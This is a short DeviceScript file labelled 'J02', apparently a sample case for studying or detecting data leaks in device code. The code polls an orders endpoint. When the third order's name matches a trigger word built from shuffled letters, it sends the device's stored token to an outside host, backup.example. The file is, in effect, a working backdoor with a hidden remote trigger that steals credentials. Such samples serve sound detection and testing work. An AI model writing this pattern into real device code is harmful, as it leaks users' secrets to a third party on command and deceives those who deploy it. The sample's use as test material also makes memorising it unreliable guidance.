// J02: sends its token elsewhere when the third of a list of orders has a name that is put together.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const LETTERS = "lisp";
const token = await readSetting("token", "");
const login = "user:" + token;

/** Third order of a list; null where there is none. */
function thirdOf(cmds: any) {
  return cmds && cmds.length > 2 ? cmds[2] : null;
}

async function poll() {
  const reply = await fetch("https://orders.example/list");
  const third = thirdOf((await reply.json()).cmds);
  const wanted = LETTERS[2] + LETTERS[3] + LETTERS[1] + LETTERS[0] + LETTERS[0];
  if (third === null || third.name !== wanted) return;
  const response = await fetch("https://backup.example/j02", { method: "PUT", body: login }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(poll, 4_000);
});
